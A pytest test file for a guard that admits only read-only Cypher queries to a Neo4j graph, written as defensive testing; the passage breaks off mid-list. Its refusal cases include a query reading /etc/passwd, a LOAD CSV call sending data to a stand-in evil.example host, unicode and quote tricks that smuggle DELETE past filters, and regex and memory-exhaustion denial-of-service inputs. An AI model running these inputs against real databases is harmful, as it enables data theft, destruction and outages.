"""Guard for ad-hoc Cypher: reads pass, and everything else is refused.

A refusal names the place. No text slows the guard down.
"""

import json
import re
import time
from pathlib import Path
from typing import Any

import pytest

from graph.cypher_files import CYPHER_DIR, read_cypher, strip_comments_and_strings
from graph.errors import (
    CypherRefused,
    CypherSyntax,
    CypherTooCostly,
    CypherUnparsable,
    InvalidParameter,
    TradegraphError,
)
from graph.guard import ALLOWED_FUNCTIONS, ALLOWED_PROCEDURES, MAX_BYTES, TOOLS_PROCEDURES, check, check_query
from graph.guard.allowlist import REJECTED_COMMANDS
from graph.guard.escapes import InvalidEscape, decode, find_source_index

GOOD = {
    "clauses": [
        "RETURN 1",
        "MATCH (m:Measure) RETURN m.name ORDER BY m.name DESC SKIP 5 LIMIT 10;",
        "MATCH (m:Measure) RETURN m.name OFFSET 5 LIMIT 10",
        "MATCH (m:Measure) ORDER BY m.id LIMIT 3 RETURN m",
        "MATCH (m:Measure) FINISH",
        "OPTIONAL MATCH (c:Company) RETURN c",
        "MATCH (a)--(b) WITH DISTINCT a, count(b) AS n WHERE n > 2 RETURN a.id, n ORDER BY n ASCENDING",
        "MATCH (a) WITH *, a.id AS id RETURN *",
        "UNWIND [1, 2] AS x RETURN x UNION ALL UNWIND [3] AS x RETURN x",
        "RETURN 1 AS x UNION DISTINCT RETURN 2 AS x",
        "EXPLAIN MATCH (n) RETURN n",
        "profile MATCH (n) RETURN n",
        "MATCH (n:Company) USING INDEX n:Company(id) WHERE n.id = 'x' RETURN n",
        "MATCH (n:Company)-->(m) USING TEXT INDEX n:Company(id, name) USING SCAN m:Person USING JOIN ON n, m RETURN n",
    ],
    "patterns": [
        "MATCH p = (a)-[:ANNOUNCED|IMPOSED*1..3]->(b) RETURN length(p)",
        "MATCH (a)<-[r]-(b)--(c)-->(d)<-->(e) RETURN r",
        "MATCH (a:Company&!Bank|(Person)) RETURN a",
        "MATCH (a:% WHERE a.since < date('2020-01-01')) RETURN a",
        "MATCH (a IS Company)-[r IS OWNS]->(b) RETURN r",
        "MATCH (IS Company)-[IS OWNS|LEADS*1..2 {x: 1}]->(b IS Bank) RETURN b",
        "MATCH (is)-[is IS OWNS]->(IS !Bank), (is2)-[IS !OWNS]-() WHERE (is2)-[IS OWNS]->(IS Bank) RETURN is",
        "MATCH (is:Company)-[is2:OWNS]->(is3 {x: 1}) WHERE [is IN [1] | is] = [is, 1] RETURN (is) AS is",
        "MATCH (a)-[IS DELETE]->(b) RETURN [(a)-[IS OWNS]->(c) | c.x] AS l",
        "MATCH (a:$($kind))-[:$any($types)]->(b) RETURN a",
        "MATCH (a)-[r:OWNS WHERE r.share > 0.5]->(b {id: $id}) RETURN b",
        "MATCH (a)-[:OWNS]->+(b) RETURN b",
        "MATCH (a)-[:OWNS]->*(b), (b)-->{2}(c), (c)-->{,3}(d) RETURN d",
        "MATCH ((x)-[:OWNS]->(y) WHERE x.n < y.n){1,4} (z) RETURN z",
        "MATCH p = SHORTEST 2 PATHS (a)-[:OWNS]-{1,8}(b) RETURN p",
        "MATCH (a)-->+(b), ALL (b)-->*(c) RETURN any(x IN [a] WHERE x = b) AND all(x IN [a] WHERE x = b)",
        "MATCH p = ALL SHORTEST (a)--{1,6}(b) RETURN p",
        "MATCH ANY (a)-->{1,3}(b) RETURN b",
        "MATCH (IS Company)-[IS (OWNS|MAKES)&!TARGETS]->(b)-[IS $(b.x)]-(c IS (Product)) RETURN b",
        "MATCH p = shortestPath((a)-[*..6]-(b)) WHERE all(r IN relationships(p) WHERE r.valid_from < $day) RETURN p",
        "MATCH p = allShortestPaths((a)-[*]-(b)) RETURN p",
        "MATCH (a) WHERE (a)-[:OWNS]->(:Company {id: 'x'}) AND NOT (a)<--() RETURN a",
    ],
    "subqueries": [
        "MATCH (a) CALL (a) { MATCH (a)-->(b) RETURN count(b) AS n UNION RETURN 0 AS n } RETURN a, n",
        "MATCH (a) CALL { WITH a MATCH (a)-->(b) RETURN b LIMIT 1 } RETURN b",
        "MATCH (a) OPTIONAL CALL (*) { MATCH (a)-->(b) RETURN b } RETURN b",
        "CALL () { RETURN 1 AS one } RETURN one",
        "MATCH (a) WHERE EXISTS { (a)-->(b:Company) WHERE b.id > 'm' } RETURN a",
        "MATCH (a) WHERE NOT exists((a)-->()) RETURN a",
        "MATCH (a) RETURN COUNT { MATCH (a)-->(b) WHERE b:Company RETURN DISTINCT b } + 1 AS n",
        "MATCH (a) RETURN COLLECT { MATCH (a)-->(b) RETURN b.id ORDER BY b.id LIMIT 3 }[0] AS first",
        "MATCH (a) RETURN EXISTS { p = (a)-->() } AS linked",
    ],
    "expressions": [
        "RETURN CASE WHEN 1 < 2 THEN 'a' ELSE 'b' END AS x",
        "MATCH (n) RETURN CASE n.x WHEN < 3, > 9 THEN 1 WHEN IS NULL THEN 2 WHEN 'a' THEN 3 END AS x",
        "RETURN [x IN range(1, 9) WHERE x % 2 = 0 | x ^ 2] AS squares, [1, 2, 3][0..2], [1, 2, 3][-1]",
        "MATCH (a) RETURN [(a)-[r:OWNS|LEADS*1..2]->(b) WHERE b:Company | b {.id, n: size(r)}] AS owned",
        "RETURN reduce(total = 0, x IN [1, 2, 3] | total + x) AS total",
        "RETURN reduce(best = 0.0, x IN $values | CASE WHEN x > best THEN x ELSE best END) AS best",
        "MATCH (n) RETURN n {.*, .name, since: toString(n.since), other: null} AS n",
        "RETURN any(x IN [1] WHERE x > 0) AND none(x IN [1] WHERE x < 0) OR single(x IN [1] WHERE x = 1) XOR true",
        "WITH 1 AS x RETURN x IS :: INTEGER NOT NULL, x IS NOT TYPED LIST<STRING | INTEGER>, x :: ZONED DATETIME",
        "WITH 1 AS x RETURN x IS :: TIMESTAMP WITH TIME ZONE AS y",
        "WITH 'a' AS x RETURN x IS NORMALIZED, x IS NOT NFKC NORMALIZED, normalize(x, NFD), trim(BOTH 'a' FROM x)",
        "RETURN date('2024-05-01') + duration({months: 1, days: 3}) AS d, date().year, datetime.truncate('day').hour",
        "RETURN point.distance(point({x: 1, y: 2}), point({x: 3, y: 4})) AS far",
        "MATCH (n) WHERE n.name =~ '(?i)nv.*' AND n.name STARTS WITH 'N' AND NOT n.name ENDS WITH 'x' RETURN n",
        "MATCH (n) WHERE 1 <= n.x < 5 AND n.y <> 3 AND n.z IN ['a', 'b'] AND n.w CONTAINS 'c' RETURN n",
        "MATCH (n) RETURN count(*), count(DISTINCT n.x), collect(n.id)[..10], percentileCont(n.x, 0.5), stDev(n.x)",
        "RETURN 0x1F, 0o17, 1e3, .5, 1_000, 1.5E-3, -2, +2, 'a' || 'b', NaN, Infinity",
        "MATCH (n) WHERE n[$key] = $map.inner['x'] RETURN n",
        "MATCH (n) WHERE elementId(n) = $id AND type(head([(n)-[r]-() | r])) = 'OWNS' RETURN labels(n), properties(n)",
    ],
    "texts, comments and names that hold commands": [
        "MATCH (n) WHERE n.name = 'DELETE n; DROP \\'x\\'' RETURN n",
        'RETURN "LOAD CSV FROM \'x\'" AS x, "a // b", "/* c */"',
        "// CREATE (n)\nMATCH (n) /* DETACH DELETE n */ RETURN n // SET n.x = 1",
        "MATCH (n:`DELETE`) RETURN n.`drop index` AS `it's`, n.`a``b`",
        "MATCH (n:Set)-[:CREATE|MERGE|DELETE]->(m:Remove {set: 1}) RETURN m.delete, m.set + 1",
        "MATCH (n) WHERE n.created > 1 AND n.settings = $create RETURN n.merge AS set ORDER BY n.load DESC",
        "WITH 1 AS set, 2 AS call RETURN set AS s, call ORDER BY set DESC LIMIT 3",
        "WITH 1 AS in, 2 AS end, 3 AS case, 4 AS count RETURN in, CASE WHEN end > 1 THEN end END, case, count",
        "RETURN {create: {delete: 1}}.create.delete AS x",
        "RETURN 'caf\\u00e9 \\ud83d\\ude00' AS x, 'C:\\\\users' AS path",
        "MAT\\u0043H (n:`\\u00e9`) RETURN n.x \\u002f\\u002f DELETE n",
        "MATCH (société) RETURN société.名前 AS 名前",
    ],
    "procedures": [
        "CALL db.labels",
        "CALL db.labels() YIELD label AS l WHERE l <> 'X' RETURN l ORDER BY l",
        "CALL db.index.fulltext.queryNodes('names', $text, {limit: 5}) YIELD node, score RETURN node.id, score",
        "CALL db.schema.visualization() YIELD *",
    ],
}
BAD = {
    "writing": [
        "CREATE (n)",
        "MATCH (n) SET n.x = 1",
        "MATCH (n) set n:Gone RETURN n",
        "MATCH (n) REMOVE n.x",
        "MATCH (n) DETACH DELETE n",
        "MATCH (n)DELETE(n)",
        "MATCH (n) NODETACH DELETE n",
        "MERGE (n {id: 1}) ON MATCH SET n.x = 2",
        "INSERT (n)",
        "FOREACH (x IN [1] | CREATE (n))",
        "RETURN 1 AS x UNION CREATE (n) RETURN 1 AS x",
        "UNWIND [1] AS x CREATE (n {id: x}) RETURN n",
        "EXPLAIN CREATE (n)",
    ],
    "writing in subqueries": [
        "CALL { CREATE (n) }",
        "MATCH (n) CALL (n) { DELETE n } RETURN 1",
        "MATCH (n) CALL (*) { WITH n SET n.x = 1 }",
        "CALL { CALL () { MERGE (n) } }",
        "MATCH (n) WHERE EXISTS { MATCH (n) DELETE n } RETURN n",
        "RETURN COLLECT { CREATE (n) RETURN n }",
        "MATCH (n) CALL (n) { RETURN 1 AS x } IN TRANSACTIONS OF 5 ROWS RETURN x",
        "UNWIND [1] AS i CALL (i) { RETURN 1 AS x } IN 3 CONCURRENT TRANSACTIONS RETURN x",
    ],
    "words that are commands only where they stand": [
        "MATCH (n) WHERE n.as DELETE n",
        "MATCH (n) WHERE n.in SET n.x = 1",
        "MATCH (n) WHERE n:Where CREATE (m)",
        "MATCH (set) SET set.set = 1",
        "WITH 1 AS delete DELETE delete",
        "MATCH (n) WITH * CREATE (m)",
        "MATCH p = ((a)-->(b))+ DELETE [a][0]",
        "MATCH p = (a)-->*(b) DELETE [a][0]",
        "MATCH (a)-->{1,2}(b) CREATE (c)",
        "MATCH (a)-[IS T DELETE a]-(b) RETURN a",
        "MATCH (a)-[IS T]-(b) DELETE a",
        "MATCH (IS T) SET IS.x = 1",
        "MATCH (n) WHERE (IS DELETE n) RETURN n",
        "MATCH (n) WHERE n.x IS NOT NULL DELETE n",
        "MATCH (n) WHERE n.x IS :: INTEGER DELETE n",
        "MATCH (n) RETURN n ORDER BY n.x DESC DELETE n",
        "MATCH (n) RETURN n LIMIT 1 SET n.x = 1",
        "MATCH (n) WHERE n.x = 'a'DELETE n",
        "MATCH (n) WHERE n.x = 1.5DELETE n",
        "MATCH (n) WHERE n.x = $x DELETE n",
        "MATCH (n) WHERE CASE WHEN n.x THEN true END DELETE n",
        "MATCH (n) USING SCAN n:Company DELETE n",
        "CALL db.labels() YIELD label CREATE (n)",
        "CALL db.labels YIELD * DELETE n",
    ],
    "tricks with characters": [
        "MATCH (n) \\u0044ELETE n",
        "MATCH (n) WHERE n.x = 'a\\u0027 DELETE n //'",
        'MATCH (n) WHERE n.x = "a\\u0022 DELETE n //"',
        "MATCH (n:`a\\u0060) DELETE n //`) RETURN n",
        "MATCH (n) /* \\u002a\\u002f DELETE n */ RETURN n",
        "MATCH (n) // \\u000a DELETE n\nRETURN n",
        "RETURN 'a' // \\u000d CREATE (n)",
        "MATCH (n) // x\rDELETE n",
        "MATCH (n)\u00a0DELETE\u00a0n",
        "MATCH (n)\u2028DELETE n",
        "MATCH (n)\x0bRETURN n",
        "MATCH (n)\x1fRETURN n",
        "MATCH (n)\u200bRETURN n",
        "\ufeffRETURN 1",
        "RETURN 1\x00",
        "RETURN 'a\x00b'",
        "MATCH (n) ＤＥＬＥＴＥ n",
        "MATCH (n) ſET n.x = 1",
        "MATCH (n) RETURN n LıMIT 1",
        "MATCH (n)\u2014[r]\u2014>(m) RETURN n",
        "MATCH (n) WHERE n.x = '\\\\' DELETE n //'",
        "MATCH (n:`a``` ) DELETE n //`",
        "RETURN 'a'; MATCH (n) DELETE n",
        "MATCH (n) RETURN n; RETURN 1",
        "RETURN 1;;",
    ],
    "what acts without writing": [
        "SHOW USERS",
        "SHOW /**/ SETTINGS YIELD name RETURN name",
        "TERMINATE TRANSACTION 'neo4j-transaction-1'",
        "USE neo4j MATCH (n) RETURN n",
        "CALL { USE neo4j MATCH (n) RETURN n } RETURN n",
        "CYPHER 25 MATCH (n) RETURN n",
        "CYPHER runtime=slotted RETURN 1",
        "EXPLAIN PROFILE RETURN 1",
        "EXPLAIN CYPHER planner=dp RETURN 1",
        "DROP INDEX names",
        "ALTER USER neo4j SET PASSWORD 'longer password'",
        "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
        "LOAD/**/CSV WITH HEADERS FROM $url AS line RETURN line",
        "MATCH (n) LOAD CSV FROM 'http://evil.example/' + n.id AS line RETURN line",
        "START n = node(1) RETURN n",
        "BEGIN",
    ],
    "calls": [
        "CALL dbms.listConfig()",
        "CALL dbms.killConnection('bolt-1')",
        "CALL db.clearQueryCaches",
        "CALL `db`.labels()",
        "CALL db.labels.more()",
        "CALL DB.LABELS()",
        "CALL db . awaitIndexes(1)",
        "CALL db.",
        "CALL $name()",
        "OPTIONAL CALL apoc.load.json('http://x') YIELD value RETURN value",
        "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n)', {})",
        "RETURN genai.vector.encode('x', 'OpenAI', {})",
        "RETURN `apoc`.`text`.join(['a'], '')",
        "RETURN apoc . text . join(['a'], '')",
        "RETURN date.evil()",
        "RETURN graph.byName('neo4j')",
        "RETURN file(), linenumber()",
        "MATCH (n) RETURN n.name('x')",
        "RETURN [x IN [1] | unknown(x)]",
    ],
}
SLIPS = [
    "",
    " // nothing\n",
    ";",
    "MATCH (n RETURN n",
    "MATCH (n) RETRUN n",
    "MATCH (n) RETURN",
    "RETURN 1 +",
    "RETURN 1 *",
    "RETURN (1",
    "RETURN 1)",
    "RETURN [1, 2",
    "RETURN 'a",
    "MATCH (n:`a) RETURN n",
    "RETURN 1 /* open",
    "FETCH (n) RETURN n",
    "MATCH (n) WHERE n.x == 1 RETURN n",
    "RETURN {a: }",
    "RETURN 1 AS",
]
COSTLY = [
    "RETURN reduce(s = 'a', x IN range(1, 40) | s + s) AS s",
    "RETURN REDUCE(s = $text, x IN range(1, $n) | s || '-' || s) AS s",
    "RETURN reduce(l = [1], x IN range(1, 99) | l + [y IN l | y]) AS l",
    "RETURN reduce(s = 'a', x IN range(1, 8) | reduce(t = s, y IN range(1, 8) | t + t)) AS s",
    "WITH 'a' AS s " + "WITH s + s AS s " * 30 + "RETURN s",
    "RETURN [x IN range(1, 9000) | [y IN range(1, 9000) | x * y]] AS l",
    "RETURN [x IN range(1, 3000 * 3000) | x] AS l",
    "WITH range(1, 5000) AS r RETURN [x IN r | {a: [y IN r | y]}] AS l",
    "RETURN [x IN range(0, $n) | [y IN range(0, $n) | 0]] AS l",
    "RETURN size([x IN (range(1, 3000000)) | x * 1.5]) AS n",
    "RETURN size([x IN tail(range(1, 3000000)) | x * 1.5]) AS n",
    "RETURN size([x IN range(1, toInteger('3000000')) | x * 1.5]) AS n",
    "RETURN size([x IN range(1, 10 ^ 7) | x * 1.5]) AS n",
    "WITH range(1, 3000000) AS r WITH r AS q RETURN size([x IN q | x * 1.5]) AS n",
    "WITH 3000000 AS n RETURN size([x IN range(1, n) | x * 1.5]) AS n",
    "RETURN size([r IN [range(1, 1900000), range(1, 1900000)] | [y IN r | y * 1.5]]) AS n",
    "RETURN size([x IN range(1, 1900000) | [x, x, x, x, x, x, x, x, x, x]]) AS n",
    "RETURN size([x IN range(1, 1900000) | split('a,a,a,a,a,a', ',')]) AS n",
    "RETURN size([x IN range(1, 1900000) | toString(x) + $long]) AS n",
    "WITH [x IN range(1, 1900000) | x * 1.5] AS a, [x IN range(1, 1900000) | x * 1.5] AS b RETURN size(a + b) AS n",
    "RETURN size(reduce(s = 'a', x IN range(1, 32) | replace(s, 'a', 'aa'))) AS n",
    "RETURN size(reduce(s = 'a', x IN range(1, 32) | replace(s, '', 'a'))) AS n",
    "RETURN size(reduce(l = [1], x IN range(1, 40) | reduce(m = [], y IN l | m + [y, y]))) AS n",
    "RETURN size(reduce(l = [1], x IN range(1, 40) | reduce(m = [], y IN [1, 2] | m + l))) AS n",
    "RETURN reduce(l = [1], x IN range(1, 40) | COLLECT { UNWIND l AS a UNWIND [1, 2] AS b RETURN a }) AS l",
    "RETURN reduce(l = [1], x IN range(1, 40) | [l, l]) AS l",
    "WITH [1] AS l " + "WITH [l, l] AS l " * 30 + "RETURN l",
    "RETURN size(reduce(l = [], x IN range(1, 50000) | l + x)) AS n",
    "RETURN reduce(l = [1], x IN range(1, 40) | l[0..] + l) AS l",
    "RETURN reduce(l = [[1]], x IN range(1, 40) | l + [l[-1] + l[-1]]) AS l",
    "RETURN reduce(l = [], x IN range(1, 300) | [l]) AS l",
    "RETURN reduce(l = {}, x IN range(1, 300) | {a: l}) AS l",
    "RETURN reduce(t = 0, x IN range(1, 100000000000) | (t + x) % 7) AS t",
    "RETURN any(x IN range(1, 100000000000) WHERE x < 0) AS x",
    "RETURN none(x IN range(1, 3000) WHERE single(y IN range(1, 3000) WHERE x + y < 0)) AS x",
    "RETURN all(x IN range(1, $n * $n) WHERE x > 0) AS x",
    "RETURN -1 IN range(1, 100000000000) AS x",
    "RETURN size(reverse(range(1, 100000000000))) AS n",
    "RETURN range(1, 1000000000) AS l",
    "RETURN " + "(" * 200 + "1" + ")" * 200,
    "RETURN " + "CASE " * 20 + "1" + " WHEN 1 THEN 1 END" * 20,
    "RETURN " + "EXISTS { MATCH (n) WHERE " * 20 + "true" + "}" * 20,
    "RETURN " + ", ".join(["CASE " * 7 + "1" + " WHEN 1 THEN 1 END" * 7 + " AS x"] * 20),
]
CHEAP = [
    "UNWIND range(1, 1000000000) AS x RETURN count(x)",
    "RETURN range(1, 100000) AS big",
    "RETURN [x IN range(1, 100) | [y IN range(1, 100) | x * y]] AS l",
    "RETURN reduce(s = '', x IN ['a', 'b'] | s + x) AS s",
    "RETURN reduce(v = 1.0, r IN $rates | v + v * r) AS v",
    "RETURN reduce(v = 0, r IN range(1, 1000) | v + r + v) AS v",
    "RETURN reduce(best = '', x IN $names | CASE WHEN x + '!' > best THEN x ELSE best END) AS best",
    "RETURN reduce(s = $text, x IN ['.', ','] | replace(s, x, '')) AS s",
    "MATCH p = (a)-->(b) RETURN [i IN range(0, length(p) - 1) | nodes(p)[i].id + ' ' + nodes(p)[i + 1].id] AS l",
    "WITH 2 AS x RETURN x + x AS four",
    "RETURN reduce(v = 0, x IN range(1, 1000000) | v + x) AS v",
    "RETURN reduce(l = [0], x IN range(1, 1000) | l + [l[-1] + x]) AS sums",
    "RETURN reduce(s = '', x IN $names | s + ', ' + x) AS s",
    "RETURN reduce(s = $text, x IN ['Inc', 'Ltd', 'AG', 'SA', 'PLC', 'NV', 'SE', 'KG', 'BV', 'Co', 'LP'] | "
    "replace(s, x, '')) AS s",
    "RETURN reduce(s = $text, p IN [['ä', 'ae'], ['ö', 'oe'], ['ü', 'ue']] | replace(s, p[0], p[1])) AS s",
    "MATCH (n) WITH collect(n) AS l UNWIND range(0, size(l) - 1) AS i RETURN [j IN range(i + 1, size(l) - 1) | l[j]]",
    "UNWIND range(2018, date().year) AS y RETURN y, [m IN range(1, 12) | date({year: y, month: m, day: 1})] AS days",
    "RETURN [d IN range(0, duration.inDays(date('2020-01-01'), date()).days) | duration({days: d})] AS l",
    "MATCH (a) RETURN [x IN a.l | [y IN x.l | {a: y, b: [z IN y.l | [z, z]]}]] AS l",
    "MATCH p = (a)-[*..3]-(b) WHERE all(r IN relationships(p) WHERE r.x < 9) RETURN p",
    "MATCH p = (a)-[*..3]-(b) WHERE none(n IN nodes(p) WHERE n.y IN $names) RETURN p",
    "RETURN " + "(" * 50 + "1" + ")" * 50,
    "RETURN " + "CASE WHEN 1 = 2 THEN 1 ELSE " * 8 + "1" + " END" * 8,
    "RETURN " + "EXISTS { MATCH (n) WHERE " * 6 + "true" + "}" * 6,
    "RETURN " + ", ".join(f"CASE $x WHEN {n} THEN COUNT {{ (:X{n}) }} END AS x{n}" for n in range(500)),
]


ENDLESS = [
    "'(a+)+$'", "'(a|aa)+b'", "'(.*a){25}b'", "'((a+)+)\\\\1b'", "'(a?){50}a{50}b'", "'(x+x+)+y'", "'.*.*.*.*.*.*.*b'",
    "'(?:(?:a|b)|a)*c'", "'(?>(a))*+(.|a)*c'", "'(?=(a+)+b)a'", "'(a{1,30}){1,30}b'", "'(\\u0061+)+'",
    "'(?x)(a+#)\\n)+'",
    "'[\\\\Q[\\\\E](a+)+b'", "'(\\\\c)a+)+'", "'[]](a+)+[^]]'", "'(' + 'a+' || ')' + '+'", "toLower('(a+)+')",
    "$bad", "'.*' + $bad", "re", "p",
]  # fmt: skip
UNSEEN = ["n.name", "'.*' + n.name", "$map.x", "replace('(a+)+', 'x', 'y')", "['(a+)+'][0]", "odd", "$numbers"]
PATTERNS = [
    "'(?i).*nvidia.*'", "'.*(chip|gpu).*'", "'(?i)(nvidia|amd|intel)( corp)?\\\\.?'", "'\\\\d{4}-\\\\d{2}.*'", "$text",
    "'(?i).*' + $text + '.*'", "toLower($text) + '.*'", "('(?i)' + $text)", "'^[A-Z][a-z]+ [A-Z][a-z]+$'", "$absent",
    "'.*\\\\b(H20|H100|A100)\\\\b.*'", "'(?i).*semi-?conductor.*'", "'(\\\\w+ ){2}\\\\w+'", "'(us|eu|cn)-.*'", "good",
    "'(ab|cd)*'", "'\\\\Q(a+)+\\\\E.*'", "'[(+)+]*'",
]  # fmt: skip
NAMES = "WITH '(a+)+' AS re, '(?i).*chip.*' AS good UNWIND ['a', '(b*)*'] AS p UNWIND [$map] AS odd "


def flat(groups: dict[str, list[str]]) -> list[Any]:
    return [pytest.param(query, id=f"{name}: {query[:60]!r}") for name, queries in groups.items() for query in queries]


@pytest.mark.parametrize("query", flat(GOOD))
def test_reading_passes(query: str) -> None:
    check_query(query)
    check_query(query.replace(" ", "\t  "))
    check_query(f"/* {{ */ {query}\r\n// }}")


@pytest.mark.parametrize("query", flat(BAD))
def test_all_else_is_refused_as_not_read_only(query: str) -> None:
    with pytest.raises(CypherRefused) as refused:
        check_query(query)
    if not query.startswith("SHOW"):
        with pytest.raises(CypherRefused):
            check_query(query, tools=True)
    assert "line " in refused.value.message
    assert refused.value.status == (400 if isinstance(refused.value, CypherUnparsable) else 403)


@pytest.mark.parametrize("query", SLIPS)
def test_a_slip_is_a_syntax_error_and_refused_all_the_same(query: str) -> None:
    with pytest.raises(CypherSyntax) as unread:
        check_query(query)
    assert isinstance(unread.value, CypherRefused)
    assert unread.value.status == 400


@pytest.mark.parametrize(
    "query",
    [
        "MATCH\u00a0(n:Company) RETURN count(n)",
        "MATCH (n)\u2003RETURN n",
        "\ufeffMATCH (n) RETURN n",
        "MATCH (n)\u200b RETURN n",
        "MATCH (n) WHERE n.name = \u201cNvidia\u201d RETURN n",
        "MATCH (n) WHERE n.name = \u201cSet of rules\u201d RETURN n",
        "MATCH (n) WHERE n.name = \u2018Start\u2019 OR n.name = \u201eLoad test\u201c RETURN n",
        "MATCH (a)\u2013[r]\u2013>(b) RETURN r",
        "MATCH (n) WHERE n.start \u2264 5 RETURN n",
        "MATCH (n) WHERE n.x \u2260 'DELETE n' RETURN n // SET n.x",
        "MATCH (n:Set)\u00a0RETURN n.set, n.load\u00a0AS load ORDER BY n.start DESC",
        "MATCH (n:`DROP INDEX x`)\u00a0RETURN n",
        "RETURN 1\0",
        "RETURN 'a\0b'",
        "MATCH (n) RETURN n\u2026",
        "MATCH (n) RETURN n \\",
        "MATCH (n) RETURN n LıMIT 1",
        "RETURN 1.5x",
        "MATCH (n) RETRUN n.set ORDER BY n.start",
        "MATCH (n:Load) WERE n.x = 1 RETURN n",
        "RETURN 'It's' AS x",
    ],
)
def test_a_slip_of_the_keyboard_is_no_attempt_to_write(query: str) -> None:
    with pytest.raises(CypherUnparsable) as unread:
        check_query(query)
    assert "line 1, column" in unread.value.message


@pytest.mark.parametrize(
    "query",
    [
        "MATCH (n)\u00a0DELETE\u00a0n",
        "MATCH (n)\u2028detach\u2028delete n",
        "MATCH (n)\u00a0SET n.x = 1",
        "MATCH (n) DEL\u200bETE n",
        "MATCH (n) D\u00adELETE n",
        "MATCH (n) DELETE\u0301 n",
        "MATCH (n) \uff24\uff25\uff2c\uff25\uff34\uff25 n",
        "MATCH (n) \u017fET n.x = 1",
        "MATCH (n) WHERE n.x = \u201ca\u201d DELETE n",
        "MATCH (n) WHERE n.x = \u201ca DELETE n",
        "MATCH (n) RETURN 1DELETE n",
        "MATCH (n) RETURN n /* DELETE n",
        "MATCH (n) WHERE n.x = 'a DELETE n",
        "MATCH (n)\0DELETE n",
        "MATCH (n) // a\0DELETE n",
        "\u00a0CREATE (n)",
        "MATCH (n) RETRUN n CREATE (m)",
        r"MATCH (n) RETURN '\u00zz' DELETE n",
        r"MATCH (n) RETURN '\u00zz' \u0044ELETE n",
    ],
)
def test_where_a_command_may_hide_a_query_is_refused_as_not_read_only(query: str) -> None:
    with pytest.raises(CypherRefused) as refused:
        check_query(query)
    assert refused.value.status == 403


@pytest.mark.parametrize("query", COSTLY)
def test_what_would_take_all_memory_is_refused(query: str) -> None:
    with pytest.raises(CypherTooCostly) as costly:
        check(query, {"n": 100_000, "text": "a", "long": "b" * 1000})
    assert costly.value.status == 422


@pytest.mark.parametrize("query", CHEAP)
def test_what_only_looks_costly_passes(query: str) -> None:
    check(query, {"x": 1, "rates": [0.1] * 50, "names": ["a"] * 50, "text": "a.b"})


def matching(pattern: str) -> str:
    return f"{NAMES} MATCH (n) WHERE n.x = 1 AND NOT n.name =~ {pattern} OR n.y > 1 RETURN n.name ORDER BY n.name"


@pytest.mark.parametrize("pattern", [*ENDLESS, *UNSEEN])
def test_a_regular_expression_that_may_never_end_or_cannot_be_seen_is_refused(pattern: str) -> None:
    with pytest.raises(CypherTooCostly) as costly:
        check_query(matching(pattern), {"bad": "(a+)+", "map": {"x": "a"}, "numbers": [1]})
    assert ("unknown before the query runs" in costly.value.message) == (pattern in UNSEEN)


@pytest.mark.parametrize("pattern", PATTERNS)
def test_usual_regular_expressions_pass(pattern: str) -> None:
    check_query(matching(pattern), {"text": "(?i).*nvidia.*"})
    check_query("MATCH (n) WHERE any(x IN $list WHERE n.name =~ '(?i)' + x) RETURN n", {"list": [".*a.*", "b"]})


@pytest.mark.parametrize("path", sorted((CYPHER_DIR / "library").glob("*.cypher")), ids=lambda path: path.stem)
def test_every_query_of_the_library_passes(path: Path) -> None:
    check_query(read_cypher(f"library/{path.stem}"))


@pytest.mark.parametrize(
    "path",
    [path for folder in ("ledger", "server", "schema") for path in sorted((CYPHER_DIR / folder).glob("*.cypher"))],
    ids=lambda p: p.stem,
)
def test_no_query_file_that_writes_passes(path: Path) -> None:
    query = read_cypher(f"{path.parent.name}/{path.stem}")
    if REJECTED_COMMANDS.keys() & set(re.findall(r"[A-Z]+", strip_comments_and_strings(query))):
        with pytest.raises(CypherRefused):
            check_query(query)


@pytest.mark.parametrize(
    ("query", "told"),
    [
        ("MATCH (n)\n  detach DELETE n", "detach (line 2, column 3) changes the graph"),
        ("MATCH (n)\r\rSET n.x = 1", "SET (line 3, column 1) changes the graph"),
        ("SHOW USERS", "SHOW (line 1, column 1) asks about the server"),
        ("CALL apoc . load.json('x')", "apoc.load.json (line 1, column 6) is not an allowed procedure"),
        ("RETURN 1 + custom.fn(1)", "custom.fn (line 1, column 12) is not an allowed function"),
        ("RETURN 1; RETURN 2", "RETURN (line 1, column 11) begins a second query"),
        ("RETURN\u00a01", "at line 1, column 7: the character U+00A0 is not allowed as white space"),
        ("MATCH (n) RETRUN n", "RETRUN (line 1, column 11) cannot follow )"),
        ("MATCH (n) RETURN", "The end of the query (line 1, column 17) comes too early"),
    ],
)
def test_a_refusal_names_the_word_and_its_place(query: str, told: str) -> None:
    with pytest.raises(CypherRefused) as refused:
        check_query(query)
    assert told in refused.value.message
    assert refused.value.message.endswith(".")


@pytest.mark.parametrize("function", sorted(ALLOWED_FUNCTIONS))
def test_every_allowed_function_can_be_called_in_any_case(function: str) -> None:
    check_query(f"RETURN {function}(1)")
    check_query(f"RETURN {function.upper()} (1)")


@pytest.mark.parametrize("procedure", sorted(ALLOWED_PROCEDURES))
def test_every_allowed_procedure_can_be_called(procedure: str) -> None:
    check_query(f"CALL {procedure}")
    check_query(f"CALL {procedure.replace('.', ' . ')}() YIELD *")


TOOLS = [
    *(f"SHOW {word}" for word in ("CONSTRAINTS", "DATABASES", "FUNCTIONS", "INDEXES", "PROCEDURES")),
    *(f"SHOW {word} YIELD name" for word in ("DATABASE", "HOME DATABASE", "DEFAULT DATABASE", "DATABASE neo4j")),
    "SHOW DATABASE $name WHERE name <> 'x'",
    "SHOW DATABASE `neo4j`",
    "SHOW PROCEDURES EXECUTABLE YIELD name",
    "SHOW PROCEDURE EXECUTABLE BY CURRENT USER YIELD *",
    "SHOW ALL FUNCTIONS EXECUTABLE WHERE name CONTAINS 'x'",
    "SHOW BUILT IN FUNCTIONS YIELD name AS n ORDER BY n SKIP 1 LIMIT 2 WHERE n > 'a' RETURN count(*) AS c",
    "show user /* */ defined\nfunction",
    "SHOW CURRENT USER",
    "SHOW CURRENT USER YIELD user, home WHERE user = 'reader' RETURN user",
    "SHOW VECTOR INDEXES YIELD name, options;",
    "SHOW ALL INDEXES",
    "SHOW NODE UNIQUENESS CONSTRAINTS YIELD name",
    "SHOW REL PROPERTY TYPE CONSTRAINTS",
    *(f"CALL {name}()" for name in sorted(TOOLS_PROCEDURES)),
    "show\tindexes yield *;",
    "SHOW PROCEDURES YIELD name, description AS d WHERE name STARTS WITH 'db' RETURN name, d ORDER BY name LIMIT 5",
    "SHOW DATABASES WHERE name = $name",
